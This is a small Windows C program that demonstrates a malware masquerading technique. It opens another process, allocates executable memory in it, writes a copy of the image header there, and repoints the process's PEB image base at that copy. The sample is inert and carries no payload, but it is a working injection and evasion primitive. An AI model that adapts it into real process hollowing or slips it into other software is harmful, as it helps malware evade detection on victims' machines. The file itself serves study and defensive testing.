/* hollow.exe PID: has a process run under the name of its program and be another one inside, as malware does: a
   copy of the program lies in memory of no file, and the process says that it is that one. The copy runs nothing.
   Compile: x86_64-w64-mingw32-gcc -O1 -o hollow.exe hollow.c -lntdll */
#include <windows.h>
#include <winternl.h>
#include <stdlib.h>

int main(int count, char **words)
{
	if (count < 2)
		return 2;
	HANDLE process = OpenProcess(PROCESS_ALL_ACCESS, FALSE, strtoul(words[1], NULL, 10));
	PROCESS_BASIC_INFORMATION about;
	if (!process || NtQueryInformationProcess(process, ProcessBasicInformation, &about, sizeof about, NULL))
		return 1;
	/* PEB.ImageBaseAddress, 64 bit. */
	char *said = (char *)about.PebBaseAddress + 0x10;
	void *base;
	char head[4096];
	if (!ReadProcessMemory(process, said, &base, sizeof base, NULL) ||
		!ReadProcessMemory(process, base, head, sizeof head, NULL))
		return 1;
	void *place = VirtualAllocEx(process, NULL, 65536, MEM_COMMIT | MEM_RESERVE, PAGE_EXECUTE_READWRITE);
	if (!place || !WriteProcessMemory(process, place, head, sizeof head, NULL))
		return 1;
	return WriteProcessMemory(process, said, &place, sizeof place, NULL) ? 0 : 1;
}
